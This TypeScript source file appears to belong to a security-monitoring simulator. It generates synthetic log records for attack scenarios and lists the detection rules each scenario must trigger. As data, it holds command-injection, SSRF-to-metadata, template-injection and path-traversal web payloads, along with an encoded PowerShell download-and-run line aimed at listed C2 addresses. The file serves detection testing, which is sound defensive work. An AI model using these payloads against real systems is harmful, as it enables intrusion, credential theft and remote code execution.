// Attack scenarios: each one a short sequence of raw records and the rule ids MiniSOC must raise for it.
import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { BROWSERS } from './background.js';
import {
  accessLine, logonXml, syslogLine, sysmonAccessXml, sysmonNetworkXml, sysmonProcessXml, type SimRecord,
} from './formats.js';
import type { Rng } from './random.js';
import { DOMAIN, type LinuxHost, type World } from './world.js';

/** Rule ids (rules/*.yml, and the heartbeat service's) the scenarios expect. */
export const RULES = {
  sqlInjection: '8c437b85-57cd-4a50-920a-fe6189848e48',
  xss: 'bcd408ab-3e3a-4cb6-9f86-0d68fbd99c39',
  pathTraversal: '6b26dd89-f1c8-427a-9547-bee8973ddd97',
  fileInclusion: 'e30001b4-56c9-4c54-baaf-89b72e569646',
  commandInjection: '6c60ded9-124e-49f1-87de-b7037ceacbe4',
  possibleCommandInjection: '7a555dfc-436d-4d31-9f1f-1f3dfef1f7c6',
  ssrfMetadata: '7dce6a5e-72a5-4ebb-ab15-bbc021598963',
  ssrfInternal: '86a52d32-ed25-459b-aba9-4f72c3f8b873',
  templateInjection: '42f81fe6-5d8e-401f-ab3e-8f0e8a40b76c',
  templateProbe: 'cf9ba29f-7aeb-4b0d-abb2-014c83a14a22',
  scannerUserAgent: '74dc8bab-9098-45cf-9a42-ce4298a776fd',
  many404: 'c27c593c-86fb-41d3-8333-0e5e966dafca',
  sshBruteForce: '9234c71c-821b-41a4-af8e-58ccfc7b0183',
  sshSpraying: '8d946c18-baf3-4aad-85e4-49a8a471dce5',
  sshLoginAfterBruteForce: 'e969cd98-1344-4449-9c8d-c1b57de8f635',
  winBruteForce: '044b2433-59d3-4886-a246-30adff89a0ee',
  winSpraying: '9398d03a-72f4-452c-b23e-16fe10abb047',
  winLogonAfterBruteForce: '228ca6fa-4a4a-4a96-93dc-eb8e740b8542',
  threatIntel: '2b3667b0-3773-4f60-9f73-ef580c667e4a',
  beaconing: 'c37236ed-0f31-4f06-b735-40262c8fa34f',
  portScan: '8499fe83-e5d8-43fe-be1f-a225e17b2b08',
  encodedPowerShell: '105a68a0-c330-4760-9f93-fff0ff3add32',
  lsassAccess: 'c3a231f4-b898-4cf1-afe5-2ae527627849',
  agentOffline: 'minisoc-agent-offline',
} as const;

/**
 * Feodo Tracker C2 addresses (abuse.ch, 2015 snapshot via FireHOL) that rules/network_threat_intel.yml
 * also lists, so the C2 scenario is caught with or without an intel feed; `soc up --demo` feeds them to enrich too.
 */
export const C2_ADDRESSES = ['5.39.222.172', '37.187.137.213', '68.168.100.232', '95.163.107.42', '149.210.180.13', '198.50.205.130', '213.138.124.13'];

// Networks that attack the Internet every day (hosting and VPN ranges); the simulator draws attackers from them.
const ATTACKER_PREFIXES = ['45.155.205', '185.220.101', '193.32.162', '91.240.118', '194.26.29', '141.98.11', '179.43.187'];

export interface ScenarioContext {
  rng: Rng;
  world: World;
  /** Event time of the scenario's first record. */
  startMs: number;
  /** Windows event record ids and pids, shared with background traffic. */
  counters: { recordId: number; pid: number };
}

export interface ScenarioRun {
  records: SimRecord[];
  /** An agent that stops sending heartbeats and telemetry between these times. */
  silence?: { agent: LinuxHost; fromMs: number; untilMs: number };
}

export interface Scenario {
  name: string;
  description: string;
  /** Rule ids of the alerts this scenario must raise. */
  rules: string[];
  /** It needs simulated agents (NATS). */
  agents?: boolean;
  run(ctx: ScenarioContext): ScenarioRun;
}

// Beside this file when run from the sources (tests), in the repository's tools/simulator when run from dist/.
const DATA_DIRS = [join(dirname(fileURLToPath(import.meta.url)), 'payloads'), join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'tools', 'simulator', 'payloads')];

/** A payload list shipped in tools/simulator/payloads (see its SOURCE.md); the first line is a comment. */
export function payloads(name: 'sqli' | 'xss'): string[] {
  const dir = DATA_DIRS.find((d) => existsSync(join(d, `${name}.txt`)));
  if (!dir) throw new Error(`payload list ${name}.txt not found in ${DATA_DIRS.join(' or ')}`);
  return readFileSync(join(dir, `${name}.txt`), 'utf8').split('\n').filter((l) => l !== '' && !l.startsWith('#'));
}

function attacker(rng: Rng): string {
  return `${rng.pick(ATTACKER_PREFIXES)}.${rng.int(1, 254)}`;
}

/** Records `stepMs` apart (with up to `jitterMs` more), from the scenario start. */
function spaced<T>(ctx: ScenarioContext, items: T[], stepMs: number, jitterMs: number, make: (item: T, ts: number, i: number) => SimRecord): SimRecord[] {
  let ts = ctx.startMs;
  return items.map((item, i) => {
    const rec = make(item, ts, i);
    ts += stepMs + ctx.rng.int(0, jitterMs);
    return rec;
  });
}

function webCampaign(ctx: ScenarioContext, paths: string[], ua: string, status: (i: number) => number): SimRecord[] {
  const ip = attacker(ctx.rng);
  return spaced(ctx, paths, 300, 400, (path, ts, i) => ({
    kind: 'log', ts, source: 'web', text: accessLine(ts, { ip, method: 'GET', path, status: status(i), bytes: ctx.rng.int(0, 4000), ua }),
  }));
}

const TARGET_PAGES = ['/item.php?id=', '/products?category=', '/search?q=', '/login.php?user=', '/api/v1/items?sort='];

function injection(kind: 'sqli' | 'xss') {
  return (ctx: ScenarioContext): ScenarioRun => {
    const list = ctx.rng.sample(payloads(kind), 15);
    const page = ctx.rng.pick(TARGET_PAGES);
    return { records: webCampaign(ctx, list.map((p) => `${page}${encodeURIComponent(p)}`), ctx.rng.pick(BROWSERS), () => ctx.rng.pick([200, 500, 403])) };
  };
}

const TRAVERSALS = ['/download?file=../../../../etc/passwd', '/static/..%2f..%2f..%2fetc%2fshadow', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/index.php?page=....//....//....//etc/passwd', '/view?doc=..%5c..%5c..%5cwindows%5cwin.ini', '/img?path=%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
  '/files/..%252f..%252f..%252fetc%252fpasswd', '/page?template=../../../../boot.ini'];

/** One attacker trying the server-side injections in turn against a host-lookup tool, a URL fetcher and a template page. */
const WEB_EXPLOITS = ['/tools/ping?host=127.0.0.1%3Buname%20-a', '/tools/ping?host=127.0.0.1%20%7C%20id', '/tools/ping?host=%24%28sleep%205%29',
  '/tools/lookup?domain=example.com%60whoami%60', '/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F',
  '/fetch?url=http%3A%2F%2F127.0.0.1%3A6379%2F', '/fetch?url=gopher%3A%2F%2F127.0.0.1%3A25%2F_HELO%2520x', '/hello?name=%7B%7B7*7%7D%7D',
  '/hello?name=%7B%7Bcycler.__init__.__globals__.os.popen(%27id%27).read()%7D%7D', '/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dconfig'];

const SCAN_WORDS = ['admin', 'backup', 'config', 'old', 'test', 'tmp', 'wp-admin', 'wp-login.php', 'phpmyadmin', '.git/config', '.env', 'server-status',
  'uploads', 'private', 'db', 'sql', 'logs', 'cgi-bin', 'include', 'install', 'setup.php', 'console', 'actuator/health', 'debug', 'api/swagger.json'];

/** Accounts that exist on the simulated servers: sshd names the others "invalid user". */
const VALID_SSH_USERS = new Set(['root', 'deploy']);
const SSH_USERS = ['root', 'admin', 'oracle', 'postgres', 'ubuntu', 'test', 'git', 'deploy', 'user', 'ftp', 'pi', 'guest', 'jenkins'];
const WIN_USERS = ['administrator', 'admin', 'backup', 'scanner', 'svc_sql', 'guest', 'helpdesk', 'test', 'user1', 'reception', 'training', 'sqladmin'];

function sshLine(ctx: ScenarioContext, host: LinuxHost, ts: number, pid: number, text: string): SimRecord {
  return { kind: 'log', ts, source: 'linux-auth', text: syslogLine(ts, host.name, 'sshd', pid, text) };
}

/** Failed SSH passwords for each of `users` from one address, then a password login that works. */
function sshGuessing(ctx: ScenarioContext, users: string[], winner: string): SimRecord[] {
  const ip = attacker(ctx.rng);
  const host = ctx.rng.pick(ctx.world.linux);
  const pid = ctx.rng.int(20_000, 30_000);
  const records = spaced(ctx, users, 600, 900, (user, ts, i) => sshLine(ctx, host, ts, pid + i,
    `Failed password for ${VALID_SSH_USERS.has(user) ? '' : 'invalid user '}${user} from ${ip} port ${ctx.rng.int(30_000, 60_000)} ssh2`));
  const last = records[records.length - 1]!.ts + 2000;
  records.push(sshLine(ctx, host, last, pid + users.length, `Accepted password for ${winner} from ${ip} port ${ctx.rng.int(30_000, 60_000)} ssh2`));
  return records;
}

/** Failed network/RDP logons for each of `users` from one address, then one that works. */
function winGuessing(ctx: ScenarioContext, users: string[], winner: string): SimRecord[] {
  const ip = attacker(ctx.rng);
  const server = ctx.rng.pick(ctx.world.servers);
  const logonType = ctx.rng.pick([3, 10]);
  const header = (ts: number) => ({ ts, computer: server.name, recordId: ++ctx.counters.recordId });
  const records: SimRecord[] = spaced(ctx, users, 500, 700, (user, ts) => ({
    kind: 'log', ts, source: 'windows-security', text: logonXml(header(ts), false, { user, logonType, ip, port: ctx.rng.int(49_152, 65_000), workstation: '-' }),
  }));
  const last = records[records.length - 1]!.ts + 2000;
  records.push({ kind: 'log', ts: last, source: 'windows-security', text: logonXml(header(last), true, { user: winner, logonType, ip, port: ctx.rng.int(49_152, 65_000), workstation: '-' }) });
  return records;
}

export const SCENARIOS: Scenario[] = [
  {
    name: 'sql-injection', description: 'an SQL injection campaign: 15 payloadbox payloads in the query string of one page, from one address',
    rules: [RULES.sqlInjection], run: injection('sqli'),
  },
  {
    name: 'xss', description: 'a cross-site scripting campaign: 15 payloadbox payloads in the query string, from one address',
    rules: [RULES.xss], run: injection('xss'),
  },
  {
    name: 'path-traversal', description: 'directory traversal and file inclusion probes for /etc/passwd, win.ini, /proc/self/environ',
    rules: [RULES.pathTraversal],
    run: (ctx) => ({ records: webCampaign(ctx, TRAVERSALS, ctx.rng.pick(BROWSERS), () => 404) }),
  },
  {
    name: 'web-exploits', description: 'command injection, SSRF to cloud metadata and localhost, template injection and a PHP filter wrapper from one address',
    rules: [RULES.commandInjection, RULES.possibleCommandInjection, RULES.ssrfMetadata, RULES.ssrfInternal, RULES.templateInjection, RULES.templateProbe, RULES.fileInclusion],
    run: (ctx) => ({ records: webCampaign(ctx, WEB_EXPLOITS, ctx.rng.pick(BROWSERS), () => ctx.rng.pick([200, 500, 400])) }),
  },
  {
    name: 'scanner', description: 'a Nikto content-discovery run: 60 requests, nearly all answered 404, scanner user agent',
    rules: [RULES.scannerUserAgent, RULES.many404],
    run: (ctx) => {
      const paths = Array.from({ length: 60 }, (_, i) => `/${SCAN_WORDS[i % SCAN_WORDS.length]}${i >= SCAN_WORDS.length ? Math.floor(i / SCAN_WORDS.length) : ''}`);
      const ua = `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00${ctx.rng.int(1000, 9999)})`;
      return { records: webCampaign(ctx, paths, ua, (i) => (i % 20 === 7 ? 403 : 404)) };
    },
  },
  {
    name: 'ssh-bruteforce', description: '12 failed SSH passwords for root from one address, then a password login from it',
    rules: [RULES.sshBruteForce, RULES.sshLoginAfterBruteForce],
    run: (ctx) => ({ records: sshGuessing(ctx, Array(12).fill('root'), 'root') }),
  },
  {
    name: 'ssh-spraying', description: 'one SSH password tried for 12 user names from one address, then a login as deploy',
    rules: [RULES.sshSpraying, RULES.sshBruteForce, RULES.sshLoginAfterBruteForce],
    run: (ctx) => ({ records: sshGuessing(ctx, SSH_USERS.slice(0, 12), 'deploy') }),
  },
  {
    name: 'rdp-bruteforce', description: '12 failed logons (4625, network or RDP) for administrator from one address, then a successful one (4624)',
    rules: [RULES.winBruteForce, RULES.winLogonAfterBruteForce],
    run: (ctx) => ({ records: winGuessing(ctx, Array(12).fill('administrator'), 'administrator') }),
  },
  {
    name: 'rdp-spraying', description: 'failed logons (4625) for 12 different accounts from one address, then one succeeds (4624)',
    rules: [RULES.winSpraying, RULES.winBruteForce, RULES.winLogonAfterBruteForce],
    run: (ctx) => ({ records: winGuessing(ctx, WIN_USERS, 'helpdesk') }),
  },
  {
    name: 'c2-beacon', description: 'a workstation connects to a Feodo Tracker C2 address 40 times, about every 0.7 s with jitter',
    rules: [RULES.threatIntel, RULES.beaconing],
    run: (ctx) => {
      const ws = ctx.rng.pick(ctx.world.workstations);
      const c2 = ctx.rng.pick(C2_ADDRESSES);
      const pid = ctx.rng.int(3000, 9000);
      const port = ctx.rng.pick([443, 8080, 447, 449]);
      const image = `C:\\Users\\${ws.user}\\AppData\\Roaming\\${ctx.rng.pick(['updater', 'msupd', 'chromeupdate'])}.exe`;
      return {
        records: spaced(ctx, Array.from({ length: 40 }), 500, 400, (_x, ts) => ({
          kind: 'log', ts, source: 'sysmon',
          text: sysmonNetworkXml({ ts, computer: ws.name, recordId: ++ctx.counters.recordId },
            { pid, image, user: `${DOMAIN}\\${ws.user}`, srcIp: ws.ip, srcPort: ctx.rng.int(49_152, 65_000), dstIp: c2, dstPort: port, initiated: true }),
        })),
      };
    },
  },
  {
    name: 'port-scan', description: 'a compromised workstation connects to 30 ports of a server within a few seconds (what answered, as Sysmon 3 logs it)',
    rules: [RULES.portScan],
    run: (ctx) => {
      const ws = ctx.rng.pick(ctx.world.workstations);
      const server = ctx.rng.pick(ctx.world.servers);
      const ports = ctx.rng.sample([21, 22, 23, 25, 53, 80, 88, 110, 111, 135, 139, 143, 389, 443, 445, 464, 593, 636, 1433, 1521, 2049, 3268, 3269,
        3306, 3389, 5432, 5900, 5985, 5986, 8080, 8443, 9389], 30);
      return {
        records: spaced(ctx, ports, 100, 100, (dstPort, ts) => ({
          kind: 'log', ts, source: 'sysmon',
          text: sysmonNetworkXml({ ts, computer: server.name, recordId: ++ctx.counters.recordId },
            { pid: 4, image: 'System', user: 'NT AUTHORITY\\SYSTEM', srcIp: ws.ip, srcPort: ctx.rng.int(49_152, 65_000), dstIp: server.ip, dstPort, initiated: false }),
        })),
      };
    },
  },
  {
    name: 'encoded-powershell', description: 'Word starts powershell -NoP -W Hidden -Enc <base64> on a workstation (Sysmon 1)',
    rules: [RULES.encodedPowerShell],
    run: (ctx) => {
      const ws = ctx.rng.pick(ctx.world.workstations);
      const script = `IEX (New-Object Net.WebClient).DownloadString('http://${ctx.rng.pick(C2_ADDRESSES)}/${ctx.rng.hex(6)}')`;
      const enc = Buffer.from(script, 'utf16le').toString('base64');
      const ts = ctx.startMs;
      return {
        records: [{
          kind: 'log', ts, source: 'sysmon',
          text: sysmonProcessXml({ ts, computer: ws.name, recordId: ++ctx.counters.recordId }, {
            pid: ctx.rng.int(3000, 9000), image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            commandLine: `powershell.exe -NoP -NonI -W Hidden -Enc ${enc}`, user: `${DOMAIN}\\${ws.user}`, parentPid: ctx.rng.int(1000, 3000),
            parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', parentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\Public\\invoice.docm"',
            originalFileName: 'PowerShell.EXE',
          }),
        }],
      };
    },
  },
  {
    name: 'lsass-access', description: 'rundll32 opens lsass.exe with PROCESS_ALL_ACCESS (comsvcs MiniDump style, Sysmon 10)',
    rules: [RULES.lsassAccess],
    run: (ctx) => {
      const ws = ctx.rng.pick(ctx.world.workstations);
      const ts = ctx.startMs;
      return {
        records: [{
          kind: 'log', ts, source: 'sysmon',
          text: sysmonAccessXml({ ts, computer: ws.name, recordId: ++ctx.counters.recordId }, {
            sourcePid: ctx.rng.int(3000, 9000), sourceImage: 'C:\\Windows\\System32\\rundll32.exe', targetPid: 712,
            targetImage: 'C:\\Windows\\system32\\lsass.exe', grantedAccess: ctx.rng.pick(['0x1fffff', '0x1010', '0x1410']), sourceUser: `${DOMAIN}\\${ws.user}`,
          }),
        }],
      };
    },
  },
  {
    name: 'agent-silent', description: 'a simulated agent stops sending heartbeats and telemetry for 60 s (needs the NATS connection of fake agents)',
    rules: [RULES.agentOffline], agents: true,
    run: (ctx) => ({ records: [], silence: { agent: ctx.rng.pick(ctx.world.linux), fromMs: ctx.startMs, untilMs: ctx.startMs + 60_000 } }),
  },
];

export function scenarioByName(name: string): Scenario | undefined {
  return SCENARIOS.find((s) => s.name === name);
}
